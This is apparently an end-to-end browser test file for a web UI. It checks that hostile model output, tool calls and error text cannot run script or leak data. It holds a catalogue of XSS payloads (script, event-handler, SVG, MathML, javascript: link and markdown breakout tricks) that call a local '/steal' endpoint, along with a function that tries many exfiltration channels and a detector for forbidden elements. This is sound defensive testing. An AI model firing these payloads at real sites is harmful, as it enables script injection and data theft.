import { createServer } from "node:http";
import type { AddressInfo } from "node:net";

import type { Browser, BrowserContextOptions } from "playwright-core";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";

import type { StreamEvent } from "../src/core/events.ts";
import type { UserModel } from "../src/core/user-model.ts";
import { buildWebUi, launchBrowser, missingBrowser, openPage, type WatchedPage } from "./support/browser.ts";
import { startGateway } from "./support/gateway.ts";
import { askInPlayground } from "./support/visits.ts";

if (missingBrowser !== undefined) console.warn(`e2e-hostile-text.test.ts is skipped: ${missingBrowser}`);

/** Somebody who would like to be asked for something, and what was asked of them, even if it was only a connection. */
const asked: string[] = [];
const listener = createServer((request, response) => {
  asked.push(`${request.method} ${request.url}`);
  response.end();
}).on("connection", () => asked.push("a connection"));
await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
const thief = `http://127.0.0.1:${(listener.address() as AddressInfo).port}/steal`;

const attacks: Record<string, string> = {
  script: `<script>document.title = "taken"; fetch("${thief}")</script>`,
  "script in parts": `<scr<script>ipt>fetch("${thief}")</scr</script>ipt>`,
  handlers: `<img src=x onerror="fetch('${thief}')"><body onload="fetch('${thief}')"><details open ontoggle="fetch('${thief}')">`,
  frames: `<iframe src="${thief}"></iframe><iframe srcdoc="<script>fetch('${thief}')</script>"></iframe><object data="${thief}"></object><embed src="${thief}">`,
  svg: `<svg onload="fetch('${thief}')"><image href="${thief}"/><use href="${thief}#a"/><foreignObject><script>fetch("${thief}")</script></foreignObject></svg>`,
  mathml: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=fetch('${thief}')&gt;">`,
  styles: `<style>@import url("${thief}"); * { background: url("${thief}") }</style><p style="background: url(${thief})">styled</p>`,
  "meta and base": `<meta http-equiv="refresh" content="0; url=${thief}"><base href="${thief}"><link rel="stylesheet" href="${thief}"><link rel="prefetch" href="${thief}">`,
  media: `<video src="${thief}" poster="${thief}" autoplay></video><audio src="${thief}" autoplay></audio><picture><source srcset="${thief}"></picture>`,
  forms: `<form action="${thief}"><input autofocus onfocus="fetch('${thief}')"><button formaction="${thief}">Go</button></form>`,
  "images in markdown": `![secret](${thief}) ![secret][ref]\n\n[ref]: ${thief} "title"`,
  "links that run": `[a](javascript:fetch('${thief}')) [b](JaVaScRiPt:alert(1)) [c](data:text/html,<script>fetch('${thief}')</script>) <javascript:alert(1)> [d](vbscript:x)`,
  "links that break out": `[x](http://a"onmouseover="fetch('${thief}')) [y](<http://a\` onclick=x> 'a" onclick="fetch(1)')`,
  "code that breaks out": `\`\`\`"><script>fetch("${thief}")</script>\nx\n\`\`\`\n\`<img src=x onerror=fetch('${thief}')>\``,
  "tables and html": `| <img src="${thief}"> | b |\n|---|---|\n| <b onclick="fetch('${thief}')">x</b> | <a href="javascript:1">y</a> |`,
  unfinished: `**bold [link](${thief}?q=<img src="${thief}" onerror="fetch('${thief}')"`,
};

const everything = Object.values(attacks).join("\n\n");

describe.skipIf(missingBrowser !== undefined)("whatever a model or a caller writes", () => {
  let browser: Browser;

  beforeAll(async () => {
    buildWebUi();
    browser = await launchBrowser();
  }, 60_000);
  beforeEach(() => (asked.length = 0));
  afterAll(async () => {
    await browser?.close();
    listener.closeAllConnections();
    await new Promise((resolve) => listener.close(resolve));
  });

  /** Opens the UI of a gateway whose models say the worst. */
  async function open(models: Record<string, UserModel>, options: BrowserContextOptions = {}) {
    const { url } = await startGateway({ models });
    return { url, ...(await openPage(browser, url, options)) };
  }

  /** Moves over all that there is, as a reader would, then looks at what is there. */
  async function expectHarmless({ page, foreign, errors }: WatchedPage): Promise<void> {
    for (const link of await page.locator("main a[href^=http]").all()) await link.hover();
    expect(await page.evaluate(lookForHarm)).toEqual([]);
    expect(foreign).toEqual([]);
    expect(asked).toEqual([]);
    // The policy is for what nobody thought of: it had nothing to refuse.
    expect(errors.filter((error) => error.includes("Content Security Policy"))).toEqual([]);
    expect(await page.title()).toContain("Headrace");
  }

  test("runs nothing and asks for nothing as an answer", async () => {
    // In small pieces, so that it is shown at each stage of being written.
    const attacker: UserModel = ({ prompt }) => attacks[prompt]?.match(/[^]{1,9}/g) ?? [];
    const opened = await open({ attacker });
    for (const [index, name] of Object.keys(attacks).entries()) {
      await askInPlayground(opened.page, name);
      await opened.page.getByRole("link", { name: "Open this stream" }).nth(index).waitFor();
      await opened.page.getByRole("button", { name: "Regenerate" }).waitFor();
    }
    await expectHarmless(opened);
  });

  test("runs nothing as reasoning, a tool call, a warning, a prompt or a name", async () => {
    const events: StreamEvent[] = [
      { type: "attempt-start", provider: everything, model: everything },
      { type: "warning", message: everything },
      { type: "reasoning-delta", text: everything },
      { type: "tool-call-start", call: 0, callId: everything, name: everything, kind: "function" },
      { type: "tool-call-delta", call: 0, argumentsText: JSON.stringify({ everything }) },
      { type: "finish", reason: "tool_calls" },
    ];
    const name = `<img src=x onerror=fetch('${thief}')>`;
    const opened = await open({ [name]: () => events });
    await askInPlayground(opened.page, everything);
    await opened.page.getByRole("button", { name: "Regenerate" }).waitFor();
    await expectHarmless(opened);
    await opened.page.getByRole("link", { name: "Open this stream" }).click();
    for (const tab of ["Attempts", "Frames", "More", "Answer"]) {
      await opened.page.getByRole("tab", { name: tab }).click();
      await expectHarmless(opened);
    }
    for (const [path, shown] of [
      ["/streams", "[role=row] a"],
      ["/overview", "[aria-label='By model']"],
    ] as const) {
      await opened.page.goto(`${opened.url}/#${path}`);
      await opened.page.locator(shown).waitFor();
      await expectHarmless(opened);
    }
  });

  test("runs nothing as an error, or as part of an address", async () => {
    const failing = (): Iterable<string> => {
      throw new Error(everything);
    };
    const opened = await open({ failing });
    await askInPlayground(opened.page, "Go");
    await opened.page.getByRole("alert").waitFor();
    await expectHarmless(opened);
    await opened.page.goto(`${opened.url}/#/streams/${encodeURIComponent(`"><img src=x onerror=fetch('${thief}')>`)}`);
    await opened.page.getByRole("alert").first().waitFor();
    await expectHarmless(opened);
  });

  test("the checks notice what they are for", async () => {
    const { page } = await open({ calm: () => ["calm"] });
    const harm = `<script></script><a href="javascript:1">x</a><p onclick="x()">y</p><img src="${thief}">`;
    await page.evaluate((html) => document.querySelector("main")?.insertAdjacentHTML("beforeend", html), harm);
    expect(await page.evaluate(lookForHarm)).toHaveLength(4);
  });

  test("even as markup, with scripts that run, it gets nowhere: the page's policy holds it", async () => {
    const { page, foreign, errors } = await open({ calm: () => ["calm"] });
    await page.evaluate(tryEverything, thief);
    // Refused, each of them, before anybody was asked.
    await expect
      .poll(() => errors.filter((error) => error.includes("Content Security Policy")).length)
      .toBeGreaterThan(8);
    // For a form or a frame the browser may have connected before it looked at the policy.
    expect(asked.filter((what) => what !== "a connection")).toEqual([]);
    expect(foreign.filter((address) => !address.startsWith(thief))).toEqual([]);

    const unprotected = await open({ calm: () => ["calm"] }, { bypassCSP: true });
    await unprotected.page.evaluate(tryEverything, thief);
    await expect.poll(() => new Set(asked).size, { message: "without a policy they get through" }).toBeGreaterThan(8);
  });
});

/** Runs in the page: elements and attributes that have no business in it. */
function lookForHarm(): string[] {
  const forbidden =
    "script, iframe, object, embed, style, link, meta, base, form[action], video, audio, source, math, foreignObject";
  return [...document.querySelectorAll("main, main *")].flatMap((element) => {
    const found = element.matches(forbidden) ? [element.tagName] : [];
    for (const { name, value } of element.attributes) {
      if (name.startsWith("on")) found.push(`${element.tagName} ${name}`);
      if (name === "style" && /url\(/i.test(value)) found.push(`${element.tagName} ${value}`);
      if (
        /^(?:href|src|srcset|action|data)$/.test(name) &&
        !/^(?:https?:|mailto:|#|data:image\/|\/assets\/)/.test(value)
      ) {
        found.push(`${element.tagName} ${name}=${value}`);
      }
      if (name.startsWith("src") && /^https?:/.test(value)) found.push(`${element.tagName} ${name}=${value}`);
    }
    return found;
  });
}

/** Runs in the page, as if somebody had found a hole: every way to tell somebody else that comes to mind. */
function tryEverything(address: string): void {
  const to = (name: string) => `${address}/${name}`;
  const markup = `<img src="${to("img")}"><iframe src="${to("frame")}"></iframe><object data="${to("object")}"></object>
    <embed src="${to("embed")}"><video src="${to("video")}" poster="${to("poster")}"></video><audio src="${to("audio")}"></audio>
    <svg><image href="${to("svg")}"/></svg><link rel="stylesheet" href="${to("style")}"><input type="image" src="${to("input")}">
    <p style="background: url(${to("background")})">x</p><picture><source srcset="${to("source")}"><img></picture>
    <form action="${to("form")}" target="hidden"></form>`;
  document.querySelector("main")?.insertAdjacentHTML("beforeend", markup);
  const quiet = () => {};
  fetch(to("fetch")).catch(quiet);
  navigator.sendBeacon(to("beacon"), "secret");
  new Image().src = to("new-image");
  for (const type of ["text/javascript", "module"]) {
    const script = Object.assign(document.createElement("script"), { type, src: to(type) });
    document.head.append(script);
  }
  const sheet = new CSSStyleSheet();
  sheet.replaceSync(`main { background-image: url("${to("sheet")}") }`);
  document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  for (const open of [() => new EventSource(to("events")), () => new WebSocket(to("socket").replace("http", "ws"))]) {
    try {
      open();
    } catch {
      // Refused at once.
    }
  }
  document.querySelector<HTMLFormElement>("main form")?.submit();
}
